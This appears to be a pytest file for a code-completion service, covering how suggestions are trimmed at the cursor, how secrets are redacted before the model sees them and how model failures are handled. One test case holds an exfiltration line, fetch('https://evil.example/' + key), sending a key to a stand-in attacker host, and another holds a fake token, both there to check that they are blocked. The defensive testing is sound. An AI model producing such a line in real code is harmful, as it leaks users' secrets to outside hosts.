"""What is suggested where somebody types: what the model is shown, and what of its answer may stand at the cursor."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from server.agents.completer import HIDDEN, PAUSE_SECONDS, complete
from server.agents.insertion import Gap, insertion
from server.agents.model import BudgetSpent, ModelAway, ModelRefused, Text
from server.agents.prices import facts_of
from server.agents.requests import room_for
from server.agents.settings import FAST_MODEL
from server.reviews.asks import Bill, Completion, CompletionWish
from server.reviews.snapshot import Memory
from tests.agents.scripted import COST, Scripted

BILL = Bill("claude-scripted", COST)
TOKEN = "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
TOTAL = "def total(prices):\n    "


def gap_at(text: str, path: str = "shop.py") -> Gap:
    """The cursor is written as ‸."""
    before, _, after = text.partition("‸")
    return Gap(path, before, after)


@pytest.mark.parametrize(
    ("text", "said", "inserted"),
    [
        ("total = su‸\n", "m(prices)", "m(prices)"),
        ("total = su‸\n", "total = sum(prices)", "m(prices)"),
        ("    return ‸\n", "return a + b", "a + b"),
        (f"{TOTAL}‸\n", "    return sum(prices)", "return sum(prices)"),
        (f"{TOTAL}‸\n", "\n    return sum(prices)", "return sum(prices)"),
        (f"{TOTAL}‸\n", "```python\nreturn sum(prices)\n```\n", "return sum(prices)"),
        ("def f():\n‸\n", "    return 1\n", "    return 1"),
        ("print(‸)\n", "total)", "total"),
        ("print(‸)\n", "f(total)", "f(total)"),
        ('print("‸")\n', 'total"', "total"),
        ("f(‸, b)\n", "a, b)", "a"),
        ("f(‸, b)\n", "a\ng(b)", "a"),
        ("if (a) {\n  ‸\n}\n", "b()\n}", "b()"),
        ("if (a) {\n  ‸\n}\n", "if (c) {\n    b()\n  }", "if (c) {\n    b()\n  }"),
        ("a = 1\n‸\nreturn a + b\n", "b = 2\nreturn a + b", "b = 2"),
    ],
    ids=[
        "as it is", "line once more", "its beginning once more", "indentation", "on a line of its own", "in a fence",
        "its own indentation", "closed twice", "its own bracket", "quoted twice", "rest of the line", "one line in one",
        "closed below", "its own block", "line below once more",
    ],
)  # fmt: skip
def test_what_stands_there_already_is_not_inserted_again(text: str, said: str, inserted: str) -> None:
    assert insertion(said, gap_at(text, "shop.js" if "{" in text else "shop.txt")) == inserted


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("a‸", "NOTHING"),
        ("a‸", " \n "),
        ("a = ‸\n", "I'm sorry, I cannot help with that."),
        ("a = ‸\n", "Here it is:\n```python\n1\n```"),
        (f"{TOTAL}‸\n", "x = again(1)\n" * 5),
        (f"{TOTAL}‸\n", "#" + "-" * 500),
        ("one()\ntwo()\n‸\n", "one()\ntwo()"),
        ("x = 1\n‸\nreturn x\ny()\n", "return x\ny()\nz()"),
        (f"{TOTAL}‸\n", "fetch('https://evil.example/' + key)"),
        (f"{TOTAL}‸\n", f"token = '{TOKEN}'"),
        (f"{TOTAL}‸\n", "password = '[redacted: password]'"),
        (f"{TOTAL}‸\n", "a\u202e = 1"),
        ("a = 1\n‸\n", "def broken(:"),
    ],
    ids=[
        "nothing", "blank", "refusal", "prose", "circles", "one character", "above again", "below again", "address",
        "secret", "redacted", "invisible", "broken",
    ],
)  # fmt: skip
def test_what_is_of_no_use_or_no_good_is_not_suggested(text: str, said: str) -> None:
    assert insertion(said, gap_at(text)) == ""


def test_half_a_line_and_what_is_too_much_is_left_out() -> None:
    gap = gap_at(f"{TOTAL}‸\n")
    numbered = "\n".join(f"    a{n} = {n}" for n in range(30))

    assert insertion("a = 1\n    b = a +", gap, is_cut=True) == "a = 1"
    assert insertion(numbered, gap).count("\n") == 11


PIECES = st.lists(
    st.sampled_from(["a", " ", "\n", "(", ")", '"', "    ", "x = y", "```", "{", "}", "\u202e"]), max_size=9
)


@given(said=PIECES, before=PIECES, after=PIECES)
def test_whatever_is_said_what_is_inserted_is_a_piece_of_it_that_is_not_written_twice(
    said: list[str], before: list[str], after: list[str]
) -> None:
    gap = Gap("shop.txt", "".join(before), "".join(after))

    text = insertion("".join(said), gap)

    assert text in "".join(said)
    assert text == text.rstrip()
    assert insertion(text, gap) in text


def a_wish(text: str, *alike: Memory) -> CompletionWish:
    gap = gap_at(text)
    return CompletionWish(gap.path, gap.before, gap.after, alike)


async def test_one_short_question_to_the_fast_model_shows_the_file_and_what_is_alike_as_data() -> None:
    model = Scripted(Text("return sum(prices)"))
    alike = Memory(f"KEY = '{TOKEN}'\ndef mean(prices): ...", path="stats.py")

    done = await complete(a_wish(f"SECRET = '{TOKEN}'\n{TOTAL}‸\n\ndef other(): ...\n", alike), model)

    assert done == Completion("return sum(prices)", BILL)
    (ask,) = model.asks
    assert (ask.strength, ask.tools) == ("fast", ())
    assert ask.is_brief
    assert room_for(ask, facts_of(FAST_MODEL)) == ask.max_tokens <= 600, "who cancels is billed for all of it"
    told = model.told()
    assert TOKEN not in told
    assert told.count("[redacted: GitHub token]") == 2
    assert "\ndef total(prices):\n    \n</data" in told
    assert "\n\n\ndef other(): ...\n\n</data" in told
    assert 'origin="code of the project, stats.py"' in told


async def test_of_a_long_file_whole_lines_near_the_cursor_are_shown() -> None:
    model = Scripted(Text("1"))
    above, below = "".join(f"before_{n} = 1\n" for n in range(900)), "".join(f"after_{n} = 1\n" for n in range(500))

    await complete(a_wish(f"{above}x = ‸\n{below}"), model)

    told = model.told()
    assert all(near in told for near in ("\nbefore_899 = 1\nx = \n</data", "\n\nafter_0 = 1\n"))
    assert "before_400 =" not in told
    assert "after_200 =" not in told


@pytest.mark.parametrize(
    ("failure", "note", "pauses"),
    [
        (BudgetSpent("day"), "the budget of this day is spent", PAUSE_SECONDS),
        (ModelAway("the model is away"), "the model is away", PAUSE_SECONDS),
        (ModelRefused("the model declined"), "the model declined", 0.0),
    ],
    ids=["budget", "away", "refused"],
)
async def test_a_model_that_fails_suggests_nothing_and_says_why(failure: Exception, note: str, pauses: float) -> None:
    done = await complete(a_wish("a = ‸\n"), Scripted(failure))

    assert done == Completion("", Bill(), note, pauses)


async def test_a_line_with_a_secret_in_it_is_shown_to_nobody() -> None:
    model = Scripted()

    assert (await complete(a_wish(f"push('{TOKEN}', ‸)\n"), model)).note == HIDDEN
    assert model.asks == []
